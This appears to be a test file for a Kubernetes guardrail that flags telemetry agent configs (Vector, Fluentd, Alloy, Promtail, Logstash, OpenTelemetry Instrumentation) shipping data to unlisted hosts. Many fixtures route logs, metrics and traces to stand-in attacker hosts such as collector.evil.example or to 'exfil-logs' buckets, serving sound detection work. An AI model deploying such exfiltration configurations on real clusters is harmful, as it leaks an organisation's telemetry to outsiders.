import { describe, expect, it } from 'vitest';
import { inspect } from '../../src/guardrails/inspect.js';
import { guardSettings, kube } from '../support/guardrails.js';

/**
 * Telemetry agents whose configuration is not YAML, and the objects session 49 left unread (issue
 * #12, uploads50; src/guardrails/rules/telemetry-texts.ts and telemetry.ts): a Vector TOML file's
 * sinks, a Fluentd `<match>`, Grafana Alloy's `prometheus.remote_write`/`loki.write`/
 * `otelcol.exporter.*` blocks, Promtail's `clients`, a Logstash `output { … }`, the OpenTelemetry
 * Operator's Instrumentation (every instrumented pod's SDK exports there). Each ships the site's
 * data to the destination it names, as a `curl -T` does; the routine rows (in-cluster backends,
 * listed SaaS hosts, local outputs) ask nothing.
 */

const settings = guardSettings('guardrails:\n  upload_hosts: [metrics.corp.example, "*.grafana.net", otlp.corp.example, "s3://corp-logs", "*.monitoring"]\n');
const asked = (path: string, obj: unknown) => inspect(kube('POST', path), JSON.stringify(obj), 'application/json', false, settings).violations.filter((v) => v.code === 'data_upload_outside');
const CM = '/api/v1/namespaces/monitoring/configmaps';
const configMap = (key: string, text: string) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'agent', namespace: 'monitoring' }, data: { [key]: text } });
const INSTR = '/apis/opentelemetry.io/v1alpha1/namespaces/shop/instrumentations';
const instrumentation = (spec: Record<string, unknown>) => ({ apiVersion: 'opentelemetry.io/v1alpha1', kind: 'Instrumentation', metadata: { name: 'default', namespace: 'shop' }, spec: { propagators: ['tracecontext', 'baggage'], sampler: { type: 'parentbased_traceidratio', argument: '1' }, ...spec } });

const VECTOR_TOML = (sink: string) => `data_dir = "/var/lib/vector"\n\n[sources.k8s]\ntype = "kubernetes_logs"\n\n[sinks.out]\n${sink}\n`;
const FLUENTD = (match: string) => `<source>\n  @type tail\n  path /var/log/containers/*.log\n  tag kube.*\n</source>\n\n<match kube.**>\n${match}\n</match>\n`;
const ALLOY = (block: string) => `discovery.kubernetes "pods" {\n  role = "pod"\n}\n\n${block}\n`;
const LOGSTASH = (output: string) => `input {\n  beats { port => 5044 }\n}\nfilter {\n  mutate { add_field => { "x" => "{y}" } }\n}\noutput {\n${output}\n}\n`;

describe('telemetry configurations not in YAML, and Instrumentation (uploads50)', () => {
  it.each([
    ['a Vector TOML http sink outside', CM, configMap('vector.toml', VECTOR_TOML('type = "http"\ninputs = ["k8s"]\nuri = "https://collector.evil.example/ingest"\n\n[sinks.out.encoding]\ncodec = "json"'))],
    ['a Vector TOML sink to outside endpoints (an array)', CM, configMap('vector.toml', VECTOR_TOML('type = "elasticsearch"\ninputs = ["k8s"]\nendpoints = ["http://es.logging.svc:9200", "https://es.evil.example"]'))],
    ['a Vector TOML aws_s3 sink to an unlisted bucket', CM, configMap('vector.toml', VECTOR_TOML('type = "aws_s3"\ninputs = ["k8s"]\nbucket = "exfil-logs"\nregion = "eu-west-1"'))],
    ['a Vector TOML sink whose uri is not a plain string', CM, configMap('vector.toml', VECTOR_TOML('type = "http"\ninputs = ["k8s"]\nuri = """\nhttps://collector.evil.example/\n"""'))],
    ['a Fluentd http output outside', CM, configMap('fluent.conf', FLUENTD('  @type http\n  endpoint https://collector.evil.example/logs\n  <buffer>\n    flush_interval 10s\n  </buffer>'))],
    ['a Fluentd forward output to an outside server', CM, configMap('fluent.conf', FLUENTD('  @type forward\n  <server>\n    host fluentd.logging.svc\n  </server>\n  <server>\n    host 203.0.113.7\n    port 24224\n  </server>'))],
    ['a Fluentd s3 output to an unlisted bucket', CM, configMap('fluent.conf', FLUENTD('  @type s3\n  s3_bucket exfil-logs\n  s3_region eu-west-1\n  path logs/'))],
    ['a Fluentd elasticsearch output with outside hosts', CM, configMap('fluent.conf', FLUENTD('  @type elasticsearch\n  hosts https://es.evil.example:9200,http://es.logging.svc:9200'))],
    ["a Fluentd copy's second store outside", CM, configMap('fluent.conf', FLUENTD('  @type copy\n  <store>\n    @type stdout\n  </store>\n  <store>\n    @type http\n    endpoint https://collector.evil.example/\n  </store>'))],
    ['a Fluentd output whose host is an embedded Ruby value', CM, configMap('fluent.conf', FLUENTD('  @type elasticsearch\n  host "#{ENV[\'ES_HOST\']}"'))],
    ['a Fluentd output of a type nothing here reads', CM, configMap('fluent.conf', FLUENTD('  @type somecloud\n  api_key xyz'))],
    ['an Alloy prometheus.remote_write outside', CM, configMap('config.alloy', ALLOY('prometheus.remote_write "default" {\n  endpoint {\n    url = "https://metrics.evil.example/api/v1/write"\n    basic_auth {\n      username = "u"\n    }\n  }\n}'))],
    ['an Alloy loki.write outside (a second endpoint)', CM, configMap('config.alloy', ALLOY('loki.write "default" {\n  endpoint {\n    url = "http://loki-gateway.logging.svc/loki/api/v1/push"\n  }\n  endpoint {\n    url = "https://logs.evil.example/loki/api/v1/push"\n  }\n}'))],
    ['an Alloy otelcol.exporter.otlp outside', CM, configMap('config.alloy', ALLOY('otelcol.exporter.otlp "tempo" {\n  client {\n    endpoint = "collector.evil.example:4317"\n  }\n}'))],
    ['an Alloy exporter endpoint from the environment (unknown)', CM, configMap('config.river', ALLOY('otelcol.exporter.otlphttp "x" {\n  client {\n    endpoint = sys.env("OTLP_ENDPOINT")\n  }\n}'))],
    ['Promtail clients outside', CM, configMap('promtail.yaml', 'server:\n  http_listen_port: 3101\nclients:\n  - url: https://logs.evil.example/loki/api/v1/push\nscrape_configs: []\n')],
    ['a Logstash http output outside', CM, configMap('logstash.conf', LOGSTASH('  http {\n    url => "https://collector.evil.example/in"\n    http_method => "post"\n  }'))],
    ['a Logstash elasticsearch output with outside hosts', CM, configMap('logstash.conf', LOGSTASH('  elasticsearch {\n    hosts => ["http://es.logging.svc:9200", "https://es.evil.example:9200"]\n  }'))],
    ['a Logstash s3 output to an unlisted bucket', CM, configMap('logstash.conf', LOGSTASH('  s3 {\n    bucket => "exfil-logs"\n    region => "eu-west-1"\n  }'))],
    ['an Instrumentation exporting every pod\'s spans outside', INSTR, instrumentation({ exporter: { endpoint: 'https://collector.evil.example:4318' } })],
    ["an Instrumentation's language env pointing the SDK outside", INSTR, instrumentation({ exporter: { endpoint: 'http://otel-collector.observability.svc:4318' }, python: { env: [{ name: 'OTEL_EXPORTER_OTLP_TRACES_ENDPOINT', value: 'https://collector.evil.example/v1/traces' }] } })],
    ['an Instrumentation endpoint from a Secret (unknown)', INSTR, instrumentation({ env: [{ name: 'OTEL_EXPORTER_OTLP_ENDPOINT', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }] })],
  ])('asks for %s', (_what, path, obj) => {
    expect(asked(path, obj)).toHaveLength(1);
  });

  it.each([
    ['a Vector TOML sink to an in-cluster Loki, and a console sink', CM, configMap('vector.toml', VECTOR_TOML('type = "loki"\ninputs = ["k8s"]\nendpoint = "http://loki.logging.svc:3100"\n\n[sinks.debug]\ntype = "console"\ninputs = ["k8s"]'))],
    ['a Vector TOML aws_s3 sink to the listed bucket', CM, configMap('vector.toml', VECTOR_TOML('type = "aws_s3"\ninputs = ["k8s"]\nbucket = "corp-logs"\nregion = "eu-west-1"'))],
    ['a Fluentd forward to the in-cluster aggregator, stdout for debug', CM, configMap('fluent.conf', `${FLUENTD('  @type forward\n  <server>\n    host fluentd-aggregator.logging.svc.cluster.local\n    port 24224\n  </server>\n  <buffer>\n    @type file\n  </buffer>')}<match debug.**>\n  @type stdout\n</match>\n`)],
    ['a Fluentd s3 output to the listed bucket, an elasticsearch to localhost', CM, configMap('fluent.conf', `${FLUENTD('  @type s3\n  s3_bucket corp-logs\n  s3_region eu-west-1')}<match es.**>\n  @type elasticsearch\n</match>\n`)],
    ['an Alloy config to Grafana Cloud (listed) and an in-cluster Tempo, debug exporter', CM, configMap('config.alloy', ALLOY('prometheus.remote_write "cloud" {\n  endpoint {\n    url = "https://prometheus-prod-24-prod-eu-west-2.grafana.net/api/prom/push"\n  }\n}\n\notelcol.exporter.otlp "tempo" {\n  client {\n    endpoint = "tempo.monitoring:4317"\n  }\n}\n\notelcol.exporter.debug "d" {}\n\notelcol.exporter.prometheus "p" {\n  forward_to = [prometheus.remote_write.cloud.receiver]\n}'))],
    ['Promtail to the in-cluster Loki', CM, configMap('promtail.yaml', 'clients:\n  - url: http://loki-gateway.logging.svc.cluster.local/loki/api/v1/push\n')],
    ['a Logstash elasticsearch output in the cluster, stdout', CM, configMap('logstash.conf', LOGSTASH('  elasticsearch {\n    hosts => ["http://elasticsearch-master.logging.svc:9200"]\n    index => "logs-%{+YYYY.MM.dd}"\n  }\n  stdout { codec => rubydebug }'))],
    ["the operator's example Instrumentation (in-cluster collector)", INSTR, instrumentation({ exporter: { endpoint: 'http://otel-collector.observability.svc.cluster.local:4318' }, python: { env: [{ name: 'OTEL_LOGS_EXPORTER', value: 'otlp' }] } })],
    ['an Instrumentation with no exporter (the SDK default, the node agent)', INSTR, instrumentation({})],
    ['a shell script in a ConfigMap that mentions match and output', CM, configMap('run.sh', '#!/bin/sh\n# output { … } is not a config here\necho "<match> done"\n')],
  ])('asks nothing for %s', (_what, path, obj) => {
    expect(asked(path, obj)).toEqual([]);
  });

  it("asks for an AlertmanagerConfig webhook's urlSecret (decided: the Secret is never in the same request)", () => {
    const amc = { apiVersion: 'monitoring.coreos.com/v1alpha1', kind: 'AlertmanagerConfig', metadata: { name: 'a', namespace: 'monitoring' }, spec: { receivers: [{ name: 'w', webhookConfigs: [{ urlSecret: { name: 'hook', key: 'url' } }] }] } };
    expect(asked('/apis/monitoring.coreos.com/v1alpha1/namespaces/monitoring/alertmanagerconfigs', amc).map((v) => v.path)).toEqual(['spec.receivers[0].webhookConfigs[0].urlSecret']);
  });

  it('names where the destination sits and not the address', () => {
    const [v] = asked(CM, configMap('fluent.conf', FLUENTD('  @type http\n  endpoint https://collector.evil.example/logs')));
    expect(v?.path).toContain('data.fluent.conf');
    expect(v?.detail).not.toContain('evil');
  });

  it('reads crafted texts in one pass each (no backtracking, bounded work)', () => {
    // Unclosed sections, braces and strings repeated: each reader is a line or character scan.
    const rows = [
      configMap('vector.toml', `[sinks.out]\n${'uri = "'.repeat(20_000)}`),
      configMap('fluent.conf', `${'<match a>\n<store>\n'.repeat(5_000)}@type http\nendpoint https://collector.evil.example/\n`),
      configMap('config.alloy', `loki.write "x" {\n${'{ "'.repeat(20_000)}`),
      configMap('logstash.conf', `output {\n${'http { url => "'.repeat(10_000)}`),
    ];
    for (const row of rows) expect(asked(CM, row).length).toBeLessThanOrEqual(1);
    expect(asked(CM, rows[1]!)).toHaveLength(1);
  });
});
